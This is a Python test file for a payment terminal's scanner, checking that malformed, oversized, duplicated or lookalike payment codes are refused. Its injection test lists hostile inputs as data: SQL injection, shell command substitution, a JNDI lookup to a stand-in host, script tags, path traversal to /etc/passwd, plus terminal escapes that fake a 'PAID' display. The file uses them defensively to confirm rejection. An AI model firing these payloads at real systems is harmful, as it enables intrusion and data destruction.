"""The scanner's part of the bad-input catalogue (reliability.md 6.4), as far as codes are concerned.

F20 (crafted images) is the eye's. Each must end in a typed refusal or in a clean code, and in nothing else.
"""

from __future__ import annotations

import unicodedata

import pytest

from terminal.codes import emv_mpm, wallets
from terminal.codes.emv_mpm import BadCrc, BadOrder, BadTlv
from terminal.codes.scanned import (
    READ_BYTES_MAX,
    NotThisCode,
    PaymentCode,
    Refused,
    Word,
    read,
)

WECHAT = "135056725249518813"
ALIPAY_PLUS = "281010897274821897274821"
UNIONPAY = "6228376427820283746"
EMV = "hQVDUFYwMWEaTwegAAAAVVVVVw8SNFZ4kBI0WNGRIgESNF8="
MERCHANT = "00020101021129370016A000000677010111011300668012345675802TH530376463046197"
KEY = bytes(range(32))


def judged(data: bytes) -> Word | None:
    """What the counter does with a reading: the word of the refusal, None when it is taken."""
    try:
        code = read(data)
        wallets.identify(code.reveal(), symbology=code.symbology)
    except Refused as refused:
        assert refused.message
        return refused.word
    return None


def wallets_of(text: str) -> list[str]:
    return [candidate.wallet for candidate in wallets.identify(text).candidates]


def test_the_good_codes_of_this_file_are_good() -> None:
    assert [judged(code.encode()) for code in (WECHAT, ALIPAY_PLUS, UNIONPAY, EMV)] == [None] * 4


@pytest.mark.parametrize("data", [b"", b"\xef\xbb\xbf", b"]Q1", b"   "])
def test_f01_empty(data: bytes) -> None:
    assert judged(data) == Word.EMPTY


@pytest.mark.parametrize("data", [b"\r", b"\n", b"\r\n", b"\t", b"\r\n\r\n", b"\n" * 600, b" \r\n"])
def test_f02_only_line_ends(data: bytes) -> None:
    assert judged(data) == Word.EMPTY


@pytest.mark.parametrize(
    "data", [b"1" * 2953, b"A" * 2953, b"hQVDUFY" + b"A" * 2946, b"\xff" * 2953]
)
def test_f03_a_qr_code_of_the_greatest_size(data: bytes) -> None:
    assert judged(data) == Word.TOO_LONG


def test_f04_a_megabyte_without_an_end() -> None:
    """The device cuts the stream (its own limit); were it handed over, it is not even decoded."""
    assert judged(b"1" * 1_000_000) == Word.TOO_LONG
    assert judged(b"1" * (READ_BYTES_MAX + 1)) == Word.TOO_LONG


@pytest.mark.parametrize("control", [*range(0x20), 0x7F])
def test_f05_every_control_character(control: int) -> None:
    dirty = WECHAT[:9].encode() + bytes([control]) + WECHAT[9:].encode()
    expected = Word.TWO_CODES if chr(control) in "\r\n\t" else Word.CONTROL
    assert judged(dirty) == expected
    assert judged(bytes([control]) + WECHAT.encode()) == Word.CONTROL
    if chr(control) not in "\r\n\t":
        assert judged(WECHAT.encode() + bytes([control])) == Word.CONTROL


@pytest.mark.parametrize("escape", [b"\x1b[2J", b"\x1b]0;PAID\x07", b"\x9b2J", b"\xc2\x9b2J"])
def test_f06_escapes_to_the_display(escape: bytes) -> None:
    assert judged(escape + WECHAT.encode()) in (Word.CONTROL, Word.NOT_TEXT, Word.NOT_ASCII)


def test_f07_byte_order_mark_invalid_utf_8_surrogate() -> None:
    assert judged(b"\xef\xbb\xbf" + WECHAT.encode()) is None
    for data in (
        b"\xff\xfe1\x003\x00",
        b"\xc3\x28",
        b"\xed\xa0\x80",
        b"\xf8\x88\x80\x80\x80",
        b"\xc0\xb1",
    ):
        assert judged(data) == Word.NOT_TEXT
        assert judged(WECHAT.encode() + data) == Word.NOT_TEXT
    assert judged(WECHAT[:9].encode() + b"\xef\xbb\xbf" + WECHAT[9:].encode()) == Word.NOT_ASCII
    with pytest.raises(NotThisCode):
        PaymentCode(f"{WECHAT}\ud800")


@pytest.mark.parametrize("zero", [0xFF10, 0x0660, 0x06F0, 0x0966, 0x1D7CE])
def test_f08_digits_of_other_scripts(zero: int) -> None:
    """`str.isdigit` and a plain \\d take them for digits; a gateway does not."""
    text = "".join(chr(zero + int(digit)) for digit in WECHAT)
    assert text.isdigit()
    assert unicodedata.normalize("NFKC", text) == WECHAT or zero in (0x0660, 0x06F0, 0x0966)
    assert judged(text.encode()) == Word.NOT_ASCII
    with pytest.raises(Refused):
        wallets.identify(text)


def test_f09_seventeen_and_nineteen_digits_are_not_wechat() -> None:
    for prefix in ("10", "13", "15"):
        assert "wechat" in wallets_of(f"{prefix}{'7' * 16}")
        assert wallets_of(f"{prefix}{'7' * 15}") == []
        assert wallets_of(f"{prefix}{'7' * 17}") == []


def test_f10_twenty_five_digits_are_not_alipay() -> None:
    for prefix in ("25", "28", "30"):
        assert set(wallets_of(f"{prefix}1{'7' * 21}")) == {"alipay+", "alipay-cn"}
        assert wallets_of(f"{prefix}1{'7' * 22}") == []
        assert wallets_of(f"{prefix}1{'7' * 12}") == []
    assert wallets_of(f"24{'7' * 22}") == []
    assert wallets_of(f"31{'7' * 22}") == []


def test_f11_unionpay_looks_like_a_card_number() -> None:
    """Taken as a code, never used without asking while JD Pay is a candidate, and shown nowhere."""
    found = wallets.identify(UNIONPAY)
    assert [candidate.wallet for candidate in found.candidates] == ["unionpay", "jdpay"]
    assert found.wallet is None
    assert UNIONPAY[:6] not in f"{found} {read(UNIONPAY.encode())}"


@pytest.mark.parametrize(
    "data",
    [
        f"{WECHAT}\r{ALIPAY_PLUS}\r",
        f"{WECHAT}\n{WECHAT}",
        f"{WECHAT}{WECHAT}",
        f"{ALIPAY_PLUS}{ALIPAY_PLUS}",
        f"{EMV}{EMV}",
        f"{WECHAT}{ALIPAY_PLUS}",
        f"{ALIPAY_PLUS}{UNIONPAY}",
        f"]Q1{WECHAT}\r\n]Q1{ALIPAY_PLUS}\r\n",
    ],
)
def test_f12_two_codes_in_one_reading(data: str) -> None:
    assert judged(data.encode()) == Word.TWO_CODES


def test_f12_two_emv_codes_run_together() -> None:
    other = "hQVDUFYwMWEfTwigAAAAZQOSAlcTMViZAHkkKUPUkSEhAAAFEgAADw=="
    assert judged(f"{EMV}{other}".encode()) == Word.BROKEN


@pytest.mark.parametrize(
    "half", [EMV[:24], EMV[:25], EMV[24:], WECHAT[:9], WECHAT[9:], UNIONPAY[:9]]
)
def test_f13_half_a_code(half: str) -> None:
    assert judged(half.encode()) in (Word.BROKEN, Word.UNKNOWN)


@pytest.mark.parametrize("code", [WECHAT, UNIONPAY, ALIPAY_PLUS, "900081818812345678901234"])
def test_f13_half_a_code_is_never_used_as_another_wallets(code: str) -> None:
    """Alipay's shorter forms look like the beginning of its longer ones; the gateway refuses those."""
    own = {candidate.wallet for candidate in wallets.identify(code).candidates}
    for cut in range(1, len(code)):
        assert wallet_of(code[:cut]) in (None, *own)


def wallet_of(text: str) -> str | None:
    try:
        return wallets.identify(text).wallet
    except Refused:
        return None


def test_f14_f15_the_same_code_again() -> None:
    """Told by its digest, whatever the reader put round it; what to do about it is the counter's."""
    first, again = read(WECHAT.encode()), read(f"]C0{WECHAT}\r\n".encode())
    assert first == again
    assert first.digest(KEY) == again.digest(KEY)
    assert first.digest(KEY) != read(ALIPAY_PLUS.encode()).digest(KEY)


def test_f16_a_merchant_code_scanned_back() -> None:
    assert judged(MERCHANT.encode()) == Word.MERCHANT_CODE
    assert judged(b"weixin://wxpay/bizpayurl?pr=ABCDEFG") == Word.MERCHANT_CODE
    assert judged(b"upi://pay?pa=test@upi&pn=Test&am=1.00&cu=INR") == Word.MERCHANT_CODE
    own = emv_mpm.build(
        accounts={"26": {"00": "SG.PAYNOW"}},
        currency="SGD",
        country="SG",
        amount_minor=1250,
        name="Shop",
        city="Singapore",
        category="5411",
    )
    assert judged(own.encode()) == Word.MERCHANT_CODE


@pytest.mark.parametrize(
    "link",
    [
        "https://qr.alipay.com/fkx00000000000000",
        "HTTP://EVIL.EXAMPLE/PAY",
        "http://user:pass@evil.example/%0d%0a",
        "https%3A%2F%2Fevil.example",
        "www.evil.example",
        "market://details?id=evil",
        "intent://scan/#Intent;scheme=zxing;end",
    ],
)
def test_f17_links(link: str) -> None:
    assert judged(link.encode()) == Word.URL


def with_crc(body: str) -> str:
    return f"{body}6304{emv_mpm.crc(f'{body}6304')}"


BODY = MERCHANT[:-8]


@pytest.mark.parametrize(
    ("text", "error"),
    [
        (with_crc(f"{BODY}9999"), BadTlv),
        (with_crc(f"{BODY}62"), BadTlv),
        (with_crc(f"{BODY}62A4abcd"), BadTlv),
        (with_crc(f"{BODY}62\uff11\uff10aaaaaaaaaa"), BadTlv),
        (with_crc(f"{BODY}6200"), BadTlv),
        (with_crc(f"{BODY}5303764"), BadOrder),
        (f"{MERCHANT[:-1]}8", BadCrc),
        (f"{MERCHANT}5802TH", BadOrder),
        (f"{BODY}6304", BadTlv),
        (BODY, BadOrder),
        ("", BadOrder),
        ("0" * 5000, BadTlv),
        (f"{MERCHANT[:-8]}6405\ud8006304ABCD", BadTlv),
    ],
)
def test_f18_a_broken_merchant_code(text: str, error: type[Exception]) -> None:
    with pytest.raises(error):
        emv_mpm.parse(text)


def test_f18_a_nested_overflow_is_listed_and_lower_case_is_taken() -> None:
    nested = emv_mpm.parse(with_crc(f"{BODY}62080199abcd"))
    assert "template-tlv:62" in nested.problems
    lower = with_crc(f"{BODY}62080104abcd")
    lower = lower[:-4] + lower[-4:].lower()
    assert lower != lower.upper()
    assert "crc-lowercase" in emv_mpm.parse(lower).problems


@pytest.mark.parametrize(
    "text",
    [
        "%s%s%s%n",
        "{0.__class__}{code}",
        "'; DROP TABLE orders;--",
        "$(reboot)",
        "`reboot`",
        "{{7*7}}",
        "${jndi:ldap://evil.example/a}",
        "<script>alert(1)</script>",
        "../../etc/passwd",
        "-rf",
        "NULL",
        "1e400",
        "+135056725249518813",
        "-135056725249518813",
        "1350 5672 5249 5188 13",
    ],
)
def test_f19_text_that_means_something_elsewhere(text: str) -> None:
    with pytest.raises(Refused) as caught:
        wallets.identify(read(text.encode()).reveal())
    assert text not in f"{caught.value} {caught.value!r}"
    assert caught.value.word == Word.UNKNOWN


def test_f21_a_scanner_setup_code_that_was_read_as_text() -> None:
    assert judged(b"@SETUPE1") == Word.SCANNER_SETUP
    assert judged(b"@QRCENA0;") == Word.SCANNER_SETUP


def test_f21_what_a_changed_scanner_sends_is_still_read() -> None:
    """Its line end lost or another one, its prefixes on: the code stays the same."""
    for data in (WECHAT, f"{WECHAT}\t", f"]Q1{WECHAT}", f"]C0{WECHAT}\r\n"):
        assert read(data.encode()) == PaymentCode(WECHAT)


def test_f22_a_scan_is_no_digit_of_a_pin() -> None:
    """A code is no text and no number and cannot be taken apart by accident."""
    code = read(b"123456")
    assert not isinstance(code, str | bytes | int)
    for taken_apart in (int, list, len, bytes, sum):
        with pytest.raises(TypeError):
            taken_apart(code)  # type: ignore[operator]
